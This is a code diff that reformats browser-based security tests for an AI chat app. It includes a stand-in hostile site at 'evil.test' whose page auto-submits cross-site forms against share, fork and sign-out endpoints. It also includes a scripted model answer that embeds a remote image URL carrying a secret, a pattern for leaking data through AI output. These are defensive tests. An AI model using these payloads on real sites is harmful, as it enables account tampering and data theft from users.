@@ -17,7 +17,15 @@ class OtherSite {
       this.requests.push(req.url!);
       const html = this.page(new URL(req.url!, "http://x"));
       if (html) res.writeHead(200, { "content-type": "text/html" }).end(html);
-      else res.writeHead(200, { "content-type": "image/png" }).end(Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64"));
+      else
+        res
+          .writeHead(200, { "content-type": "image/png" })
+          .end(
+            Buffer.from(
+              "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
+              "base64",
+            ),
+          );
     });
     await new Promise<void>((resolve) => this.server!.listen(0, "127.0.0.1", resolve));
     this.port = (this.server.address() as AddressInfo).port;
@@ -29,9 +37,18 @@ class OtherSite {
   }
 }
 
-test.use({ launchOptions: { ...chromiumLaunchOptions, args: [...chromiumLaunchOptions.args, "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP images.test 127.0.0.1"] } });
+test.use({
+  launchOptions: {
+    ...chromiumLaunchOptions,
+    args: [...chromiumLaunchOptions.args, "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP images.test 127.0.0.1"],
+  },
+});
 
-test("a hostile site's auto-submitted forms change nothing and cannot sign the visitor out", async ({ page, context, servers }) => {
+test("a hostile site's auto-submitted forms change nothing and cannot sign the visitor out", async ({
+  page,
+  context,
+  servers,
+}) => {
   const prompt = "Remember this conversation.";
   servers.model.script(prompt, [{ text: "Remembered." }]);
   await page.goto("/");
@@ -48,7 +65,11 @@ test("a hostile site's auto-submitted forms change nothing and cannot sign the v
     "/share": `<form method="POST" action="${app}/api/conversations/${conversationId}/share"></form>`,
     "/fork": `<form method="POST" action="${app}/api/share/whatever/fork"></form>`,
   };
-  const evil = new OtherSite((url) => forms[url.pathname] && `<!doctype html><title>Win a prize</title>${forms[url.pathname]}<script>document.forms[0].submit()</script>`);
+  const evil = new OtherSite(
+    (url) =>
+      forms[url.pathname] &&
+      `<!doctype html><title>Win a prize</title>${forms[url.pathname]}<script>document.forms[0].submit()</script>`,
+  );
   await evil.start();
   try {
     for (const path of Object.keys(forms)) {
@@ -75,7 +96,11 @@ test("a remote image in an answer is a link, not a request, unless its host is a
   await images.start();
   const imageUrl = `http://images.test:${images.port}/pixel.png?secret=s3cr3t`;
   const prompt = "Show me a picture.";
-  servers.model.script(prompt, [{ text: `Here it is: ![a pixel](${imageUrl}) and inline ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)` }]);
+  servers.model.script(prompt, [
+    {
+      text: `Here it is: ![a pixel](${imageUrl}) and inline ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)`,
+    },
+  ]);
   const allowing = scriptedApp(servers.model.url, { TOOLSMITH_IMAGE_HOSTS: `http://images.test:${images.port}` });
   await allowing.start();
   try {
